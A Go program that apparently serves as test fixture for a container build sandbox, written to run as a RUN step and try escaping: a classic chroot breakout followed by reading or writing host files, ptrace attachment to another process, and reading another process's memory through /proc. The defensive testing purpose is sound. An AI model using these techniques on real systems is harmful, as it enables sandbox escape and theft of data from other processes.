// Command attack is what a hostile Dockerfile would COPY in and RUN: each
// mode tries one way out of the RUN sandbox and prints what it reached.
// The sandbox tests build it statically and run it as a RUN step.
package main

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: attack escape-read FILE | escape-write FILE | ptrace PID | mem PID")
		os.Exit(2)
	}
	var err error
	switch arg := os.Args[2]; os.Args[1] {
	case "escape-read":
		if err = escape(); err == nil {
			var b []byte
			b, err = os.ReadFile(arg)
			os.Stdout.Write(b)
		}
	case "escape-write":
		if err = escape(); err == nil {
			err = os.WriteFile(arg, []byte("written from a RUN step\n"), 0o644)
		}
	case "ptrace":
		err = ptrace(atoi(arg))
	case "mem":
		err = readMem(atoi(arg))
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fmt.Println("attack failed:", err)
		os.Exit(1)
	}
}

func atoi(s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		fmt.Println("attack failed: not a pid:", s)
		os.Exit(2)
	}
	return n
}

// escape leaves a chroot the classic way: chroot into a subfolder while the
// working folder stays outside it, climb with "..", then chroot there.
func escape() error {
	if err := os.MkdirAll("/.escape", 0o700); err != nil {
		return err
	}
	if err := syscall.Chdir("/"); err != nil {
		return err
	}
	if err := syscall.Chroot("/.escape"); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	for range 64 {
		if err := syscall.Chdir(".."); err != nil {
			return err
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot back: %w", err)
	}
	return nil
}

// ptrace attaches to pid and reads a word of its memory.
func ptrace(pid int) error {
	if err := syscall.PtraceAttach(pid); err != nil {
		return fmt.Errorf("PTRACE_ATTACH %d: %w", pid, err)
	}
	defer syscall.PtraceDetach(pid)
	var ws syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &ws, syscall.WALL, nil); err != nil {
		return err
	}
	fmt.Printf("attached to %d\n", pid)
	return nil
}

// readMem reads the first mapped page of pid through /proc/<pid>/mem.
func readMem(pid int) error {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return err
	}
	defer maps.Close()
	sc := bufio.NewScanner(maps)
	if !sc.Scan() {
		return fmt.Errorf("no mappings readable for %d", pid)
	}
	start, _, _ := strings.Cut(sc.Text(), "-")
	addr, err := strconv.ParseInt(start, 16, 64)
	if err != nil {
		return err
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return err
	}
	defer mem.Close()
	b := make([]byte, 64)
	n, err := mem.ReadAt(b, addr)
	if err != nil {
		return err
	}
	fmt.Printf("read %d bytes of %d's memory\n", n, pid)
	return nil
}
